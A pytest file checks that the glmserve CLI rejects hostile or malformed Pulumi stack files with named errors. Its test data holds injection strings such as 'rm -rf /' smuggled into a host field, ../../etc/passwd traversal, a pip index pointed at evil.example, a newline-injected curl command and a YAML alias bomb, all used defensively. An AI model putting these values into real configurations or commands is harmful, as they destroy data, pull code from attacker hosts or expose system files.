"""Hostile and malformed stack files, one named class at a time (issue 14).

Each case is a stack file written as text (so YAML-level tricks survive) and run through
`glmserve validate` and `glmserve render --format json|shell` in-process. A case must end
with exit 2 and a message that names what is wrong (a key or a file) — never a traceback,
never megabytes of output, never exit 0 for something dangerous. The README's reliability
figure counts these cases (tests/unit/cli/test_hostile_input.py::test_reliability_figure).
"""
from __future__ import annotations

import pytest

from infra.cli.main import main

HEAD = "config:\n  glmserve:provider: none\n"

# class -> {case id: (stack file text, a fragment the error must contain)}
HOSTILE: dict[str, dict[str, tuple[str, str]]] = {
    "yaml-structure": {
        "config-is-a-list": ("config:\n  - a\n  - b\n", "config"),
        "config-is-a-string": ("config: hello\n", "config"),
        "document-is-a-list": ("- config\n", "Pulumi.hostile.yaml"),
        "node-is-a-number": (HEAD + "  glmserve:node: 3\n", "glmserve:node"),
        "node-is-null": (HEAD + "  glmserve:node: null\n", "glmserve:node"),
        "duplicate-top-key": ("config:\n  glmserve:provider: modal\n  glmserve:provider: none\n", "duplicate"),
        "duplicate-nested-key": (HEAD + "  glmserve:serving:\n    port: 8000\n    port: 9000\n", "duplicate"),
        "non-string-key": (HEAD + "  glmserve:serving:\n    1: 2\n", "line 4: key 1"),
        "deep-nesting": (HEAD + "  glmserve:engine:\n    env: " + "[" * 200 + "]" * 200 + "\n", "deep"),
        "alias-bomb": (HEAD + "  x0: &a0 [z, z, z, z, z, z, z, z, z, z]\n"
                       + "".join(f"  x{i}: &a{i} [{', '.join(['*a%d' % (i - 1)] * 10)}]\n" for i in range(1, 8)),
                       "alias"),
    },
    "types": {
        "bool-as-int": (HEAD + "  glmserve:serving:\n    tensorParallelSize: true\n", "tensorParallelSize"),
        "float-as-int": (HEAD + "  glmserve:serving:\n    maxModelLen: 8192.0\n", "maxModelLen"),
        "nan": (HEAD + "  glmserve:serving:\n    gpuMemoryUtilization: .nan\n", "gpuMemoryUtilization"),
        "word-as-bool": (HEAD + "  glmserve:serving:\n    enforceEager: yes please\n", "enforceEager"),
    },
    "shapes": {
        "host-flag": (HEAD + "  glmserve:serving:\n    host: -h\n", "serving.host"),
        "host-shell": (HEAD + "  glmserve:serving:\n    host: '0.0.0.0; rm -rf /'\n", "serving.host"),
        "model-id-dotdot": (HEAD + "  glmserve:model:\n    id: ../../etc/passwd\n", "model.id"),
        "revision-dotdot": (HEAD + "  glmserve:model:\n    revision: main/../../x\n", "model.revision"),
        "revision-flag": (HEAD + "  glmserve:model:\n    revision: --trust-remote-code\n", "model.revision"),
        "profile-escapes": (HEAD + "  glmserve:model:\n    profile: ../gpus\n", "model.profile"),
        "mount-root": (HEAD + "  glmserve:cache:\n    mountPath: /\n", "cache.mountPath"),
        "mount-climbs": (HEAD + "  glmserve:cache:\n    mountPath: /root/../../etc\n", "cache.mountPath"),
        "mount-newline": (HEAD + "  glmserve:cache:\n    mountPath: \"/data\\nx\"\n", "cache.mountPath"),
        "mount-dev-shm": (HEAD + "  glmserve:cache:\n    mountPath: /dev/shm\n", "cache.mountPath"),
        "volume-dotdot": (HEAD + "  glmserve:cache:\n    volume: '..'\n", "cache.volume"),
        "pip-option": (HEAD + "  glmserve:engine:\n    pipPackages: ['--index-url=http://evil.example/simple']\n",
                       "pipPackages"),
        "setup-newline": (HEAD + "  glmserve:engine:\n    setupCommands: [\"RUN true\\nRUN curl evil\"]\n",
                          "setupCommands"),
    },
    "credential-urls": {
        "runpod-api-http": ("config:\n  glmserve:provider: runpod\n  glmserve:runpod:\n"
                            "    apiUrl: http://api.example.com\n", "runpod.apiUrl"),
        "runpod-api-userinfo": ("config:\n  glmserve:provider: runpod\n  glmserve:runpod:\n"
                                "    apiUrl: https://user:pw@api.example.com\n", "runpod.apiUrl"),
        "gate-url-http": ("config:\n  glmserve:provider: kubernetes\n  glmserve:kubernetes:\n"
                          "    gateUrl: http://glm.example.com\n", "kubernetes.gateUrl"),
        "k8s-label-newline": ("config:\n  glmserve:provider: kubernetes\n  glmserve:kubernetes:\n"
                              "    labels: {team: \"a\\nb\"}\n", "kubernetes.labels"),
    },
    "secrets": {
        "empty-api-key": (HEAD + "  glmserve:secrets:\n    apiKey: {value: ''}\n", "secrets.apiKey"),
        "short-api-key": (HEAD + "  glmserve:secrets:\n    apiKey: {value: a}\n", "secrets.apiKey"),
        "hf-token-in-clear": (HEAD + "  glmserve:engine:\n    env: {HF_TOKEN: hf_abcdefghijklmnopqrstuvwxyz0123}\n",
                              "engine.env"),
    },
}

CASES = [pytest.param(text, fragment, id=f"{cls}:{name}")
         for cls, cases in HOSTILE.items() for name, (text, fragment) in cases.items()]
COMMANDS = (["validate"], ["render", "--format", "json"], ["render", "--format", "shell"])


def run(args: list[str], capsys) -> tuple[int, str, str]:
    code = main([*args, "--stack", "hostile"])
    out = capsys.readouterr()
    return code, out.out, out.err


@pytest.fixture
def hostile(project, monkeypatch):
    monkeypatch.setenv("GLMSERVE_PROJECT_DIR", str(project))
    for var in ("RUNPOD_API_URL", "RUNPOD_API_KEY", "KUBECONFIG"):
        monkeypatch.delenv(var, raising=False)
    return project / "stacks" / "Pulumi.hostile.yaml"


@pytest.mark.parametrize("text,fragment", CASES)
def test_hostile_stack_file_is_refused_with_a_named_error(hostile, capsys, text, fragment):
    hostile.write_text(text)
    for args in COMMANDS:
        code, out, err = run(args, capsys)
        assert code == 2, f"glmserve {' '.join(args)} accepted it: {out[:300]}"
        assert fragment in err, f"the error does not name {fragment!r}: {err[:600]}"
        assert "Traceback" not in err and len(err) < 4000, err[:600]
        assert "abcdefghijklmnopqrstuvwxyz0123" not in err + out


def test_kubernetes_does_not_expand_user_values_into_the_api_key(hostile, capsys):
    # The kubelet expands $(VAR) in command and args: a user's $(VLLM_API_KEY) must stay text.
    hostile.write_text("config:\n  glmserve:provider: kubernetes\n  glmserve:engine:\n"
                       "    extraArgs: ['--chat-template', '$(VLLM_API_KEY)']\n")
    code, out, err = run(["render", "--artifact"], capsys)
    assert code == 0, err
    assert "$$(VLLM_API_KEY)" in out and "- $(VLLM_API_KEY)" not in out.replace("$$(", "")



def test_the_readme_states_how_many_hostile_files_are_tried():
    from tests.helpers import ROOT

    readme = (ROOT / "README.md").read_text()
    assert f"**Hostile input.** {len(CASES)} hostile or malformed stack files" in readme
